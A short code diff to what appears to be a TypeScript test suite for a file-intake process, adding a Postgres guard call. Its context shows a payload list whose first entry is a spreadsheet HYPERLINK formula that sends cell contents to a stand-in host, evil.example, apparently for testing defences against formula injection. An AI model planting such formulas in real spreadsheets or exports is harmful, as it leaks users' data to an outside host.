@@ -13,6 +13,9 @@ import type { ApiClient } from '../api/support/api-client.js';
 import { runIntake, waitUntil } from '../support/intake-processes.js';
 import { phoneNumber } from './support/hostile-files.js';
 import { byScale } from '../support/test-scale.js';
+import { holdPostgresWhileRunning } from '../support/postgres-guard.js';
+
+holdPostgresWhileRunning();
 
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
